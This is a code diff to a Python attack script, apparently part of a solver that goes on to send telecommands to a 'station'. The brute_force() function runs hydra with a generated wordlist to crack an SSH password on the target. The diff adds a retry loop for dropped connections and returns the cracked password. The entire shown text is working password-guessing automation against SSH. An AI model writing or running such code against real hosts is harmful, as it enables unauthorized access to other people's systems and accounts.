@@ -62,10 +62,14 @@ def brute_force() -> str | None:
         with open(wordlist, "w") as out:
             out.write("\n".join(words) + "\n")
         argv = [hydra, "-I", "-f", "-t", "16", "-l", USER, "-P", wordlist, f"ssh://{STATION}"]
-        print("$", " ".join(argv), flush=True)
-        run = subprocess.run(argv, capture_output=True, text=True, cwd=work, check=False)
-    found = re.search(rf"login:\s+{USER}\s+password:\s+(\S+)", run.stdout)
-    return found[1] if found else None
+        for attempt in range(2):  # a busy station drops some connections: try once more
+            print("$", " ".join(argv), flush=True)
+            run = subprocess.run(argv, capture_output=True, text=True, cwd=work, check=False)
+            found = re.search(rf"login:\s+{USER}\s+password:\s+(\S+)", run.stdout)
+            if found:
+                return found[1]
+            print(f"hydra run {attempt + 1}: no password ({run.stderr.strip()[-200:]})", flush=True)
+    return None
 
 
 def telecommand() -> bytes:
